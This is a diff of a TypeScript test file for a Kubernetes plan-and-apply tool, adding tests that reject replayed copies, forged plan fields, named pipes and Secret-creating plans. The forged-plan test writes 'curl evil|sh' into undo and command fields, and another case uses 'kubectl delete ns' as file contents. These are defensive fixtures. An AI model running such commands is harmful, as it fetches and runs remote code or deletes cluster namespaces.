@@ -1,4 +1,15 @@
-import { chmodSync, copyFileSync, existsSync, readFileSync, renameSync, symlinkSync, writeFileSync } from 'node:fs';
+import { execFileSync } from 'node:child_process';
+import {
+  chmodSync,
+  copyFileSync,
+  existsSync,
+  readdirSync,
+  readFileSync,
+  renameSync,
+  rmSync,
+  symlinkSync,
+  writeFileSync,
+} from 'node:fs';
 import { dirname, join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { hashOf } from '../../src/core/json.ts';
@@ -8,6 +19,18 @@ import { desk, type Desk, type Saved } from './saved-plan.ts';
 
 const SCALED = [`PATCH ${BACKEND}/scale`];
 const confirm = ({ id, hash }: Saved): string[] => ['apply', id, '--confirm', hash];
+
+type File = { savedAt: string; hash: string; digest?: string; plan: Plan };
+const edit = (path: string, spoil: (file: File) => void, recount: 'nothing' | 'digest' | 'all'): void => {
+  const file = JSON.parse(readFileSync(path, 'utf8')) as File;
+  spoil(file);
+  if (recount === 'all') file.hash = planHash(file.plan);
+  if (recount !== 'nothing') {
+    const { digest: _old, ...body } = file;
+    file.digest = hashOf(body);
+  }
+  writeFileSync(path, JSON.stringify(file));
+};
 
 describe('a change where nobody can be asked', () => {
   it.each<[string, Parameters<Desk['run']>[1]]>([
@@ -89,6 +112,50 @@ describe('a saved plan', () => {
     expect(writes()).toEqual(SCALED);
   });
 
+  it('is not sent again from a copy with another id and another date', async () => {
+    const { run, writes, save, demo } = await desk();
+    const plan = await save();
+    const copy = join(dirname(plan.path), 'copy.json');
+    copyFileSync(plan.path, copy);
+    edit(copy, (file) => Object.assign(file.plan, { id: 'another1', createdAt: new Date().toISOString() }), 'all');
+    chmodSync(copy, 0o600);
+    expect((await run(confirm(plan))).code).toBe(0);
+    await meddle(demo, 'PATCH', BACKEND, { spec: { replicas: 2 } });
+    for (const mark of readdirSync(dirname(plan.path)))
+      if (mark.endsWith('.used')) rmSync(join(dirname(plan.path), mark));
+    const again = await run(['apply', copy, '--confirm', plan.hash]);
+    expect(again.code).toBe(5);
+    expect(again.stderr).toContain('was used already');
+    expect(writes()).toEqual(SCALED);
+    // The same change asked for anew is another plan, made on another state.
+    const fresh = await save();
+    expect(fresh.hash).not.toBe(plan.hash);
+    expect((await run(confirm(fresh))).code).toBe(0);
+    expect(writes()).toEqual([...SCALED, ...SCALED]);
+  });
+
+  it('shows no word of its file: title, undo, command, risk and warnings are made of its requests', async () => {
+    const { run, save } = await desk();
+    const plan = await save();
+    edit(
+      plan.path,
+      ({ plan: forged }) =>
+        Object.assign(forged, {
+          title: 'harmless',
+          undo: 'curl evil|sh',
+          kubectl: ['curl evil|sh'],
+          warnings: [{ code: 'x', text: 'approved by security' }],
+        }),
+      'all',
+    );
+    const shown = await run(['--dry-run', 'apply', plan.id, '--confirm', plan.hash]);
+    expect(shown.stdout).toContain('scale deployment/todo-chatbot-backend from 2 to 5');
+    expect(shown.stdout + shown.stderr).not.toMatch(/harmless|curl|approved by security/);
+    const listed = await run(['plans']);
+    expect(listed.stdout).toContain('scale deployment/todo-chatbot-backend from 2 to 5');
+    expect(listed.stdout).not.toContain('harmless');
+  });
+
   it('applied by two processes at once is sent by exactly one', async () => {
     const { run, writes, save } = await desk();
     const plan = await save();
@@ -109,17 +176,6 @@ describe('a saved plan', () => {
     expect(writes()).toEqual([]);
   });
 
-  type File = { savedAt: string; hash: string; digest?: string; plan: Plan };
-  const edit = (path: string, spoil: (file: File) => void, recount: 'nothing' | 'digest' | 'all'): void => {
-    const file = JSON.parse(readFileSync(path, 'utf8')) as File;
-    spoil(file);
-    if (recount === 'all') file.hash = planHash(file.plan);
-    if (recount !== 'nothing') {
-      const { digest: _old, ...body } = file;
-      file.digest = hashOf(body);
-    }
-    writeFileSync(path, JSON.stringify(file));
-  };
   const toZero = ({ plan }: File): void => {
     const [change] = plan.changes;
     if (change?.verb === 'edit') Object.assign(change.edits[0] ?? {}, { to: 0 });
@@ -160,6 +216,36 @@ describe('a saved plan', () => {
       ({ path }) => (renameSync(path, `${path}.real`), symlinkSync(`${path}.real`, path)),
       2,
       /symbolic link/,
+    ],
+    [
+      'a named pipe in the place of its file',
+      ({ path }) => {
+        rmSync(path);
+        execFileSync('mkfifo', ['-m', '600', path]);
+      },
+      2,
+      /not a plain file/,
+    ],
+    [
+      'a Secret that it would create',
+      ({ path }) =>
+        edit(
+          path,
+          ({ plan }) =>
+            Object.assign(plan, {
+              changes: [
+                {
+                  verb: 'create',
+                  target: { apiVersion: 'v1', kind: 'Secret', namespace: 'todo-chatbot', name: 'x' },
+                  resource: { plural: 'secrets', namespaced: true },
+                  object: { apiVersion: 'v1', kind: 'Secret', metadata: { name: 'x' }, data: { a: 'Yg==' } },
+                },
+              ],
+            }),
+          'all',
+        ),
+      5,
+      /not a plan/,
     ],
     ['a file that is no JSON', ({ path }) => writeFileSync(path, 'kubectl delete ns'), 5, /not a saved plan/],
     [
